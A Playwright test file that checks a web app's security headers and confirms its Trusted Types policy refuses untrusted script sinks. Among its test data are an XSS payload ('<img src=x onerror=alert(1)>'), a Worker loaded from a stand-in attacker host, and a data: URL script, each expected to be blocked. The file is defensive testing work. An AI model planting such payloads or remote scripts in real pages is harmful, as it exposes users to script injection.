import { expect, test } from '@playwright/test';
import { setUpPassphrase } from './support/helpers';
import { waitForServiceWorker } from './support/service-worker';

// Issue 13: the Content-Security-Policy is sent as a header too, with frame-ancestors 'none'
// and Trusted Types required for every script sink. The app must still work under it: the
// service worker, the backup worker, the charts and the lazily loaded passphrase check.

test('the server sends the security headers with every page', async ({ request }) => {
  for (const path of ['/', '/young-people/abc', '/backup']) {
    const response = await request.get(path);
    const headers = response.headers();
    const csp = headers['content-security-policy'] ?? '';
    expect(csp, path).toContain("frame-ancestors 'none'");
    expect(csp, path).toContain("require-trusted-types-for 'script'");
    expect(csp, path).toContain('trusted-types default');
    expect(csp, path).toContain("script-src 'self'");
    expect(headers['x-frame-options'], path).toBe('DENY');
    expect(headers['referrer-policy'], path).toBe('no-referrer');
    expect(headers['x-content-type-options'], path).toBe('nosniff');
  }
});

test('the app works with Trusted Types required, and refuses untrusted script sinks', async ({
  page,
}) => {
  test.setTimeout(120_000);
  const violations: string[] = [];
  page.on('console', (message) => {
    if (/Trusted Type|TrustedScriptURL|TrustedHTML/i.test(message.text())) {
      violations.push(message.text());
    }
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) =>
      console.error(`CSP violation: ${e.violatedDirective} ${e.blockedURI}`),
    );
  });
  const workers: string[] = [];
  page.on('worker', (worker) => workers.push(worker.url()));

  // The service worker registers (its URL goes through the app's one policy).
  await page.goto('/');
  await expect(page.getByRole('heading', { level: 1, name: 'Caseload' })).toBeVisible();
  await expect(page.getByText('Ready to work offline')).toBeVisible();
  await waitForServiceWorker(page);

  // Trusted Types are enforced: HTML from a string and scripts from elsewhere are refused.
  // (eval cannot be tried from here: the test's own evaluate is exempt from the policy.)
  const refused = await page.evaluate(() => {
    const tries: Record<string, () => unknown> = {
      innerHTML: () => {
        document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
      },
      foreignWorker: () => new Worker('https://evil.example/x.js'),
      dataScript: () => {
        document.createElement('script').src = 'data:text/javascript,alert(1)';
      },
    };
    return Object.fromEntries(
      Object.entries(tries).map(([name, attempt]) => {
        try {
          attempt();
          return [name, 'allowed'];
        } catch {
          return [name, 'refused'];
        }
      }),
    );
  });
  expect(refused).toEqual({
    innerHTML: 'refused',
    foreignWorker: 'refused',
    dataScript: 'refused',
  });
  const expected = violations.length;

  // Demo data, the report's chart, the passphrase set-up and check, and a backup checked in
  // the worker: all without a Trusted Types violation.
  await page.getByRole('button', { name: 'Explore with demo data' }).click();
  await page
    .getByRole('navigation', { name: 'Main' })
    .getByRole('link', { name: 'Reports' })
    .click();
  await expect(page.getByRole('img', { name: /Basics \d+/ }).first()).toBeVisible();
  await page.goto('/backup');
  await setUpPassphrase(page);
  await expect(page.getByRole('heading', { level: 1, name: 'Backup and restore' })).toBeVisible();
  await page.getByLabel('Passphrase', { exact: true }).fill('password123456');
  await page.getByLabel('Type the passphrase again').fill('password123456');
  await page.getByRole('button', { name: 'Back up now' }).click();
  await expect(page.getByText(/This passphrase is too easy to guess/).first()).toBeVisible();
  await page.getByLabel('Backup file').setInputFiles({
    name: 'empty.json',
    mimeType: 'application/json',
    buffer: Buffer.from(
      JSON.stringify({
        format: 'resilience-coaching-backup',
        version: 1,
        exportedAt: '2026-01-01T00:00:00.000Z',
        youngPeople: [],
        goals: [],
        sessions: [],
        ratings: [],
      }),
    ),
  });
  await expect(page.getByRole('table', { name: /compared with this device/ })).toBeVisible();
  expect(workers.some((url) => /\/assets\/parse-backup\.worker-[\w-]+\.js$/.test(url))).toBe(true);

  expect(violations.slice(expected)).toEqual([]);
});
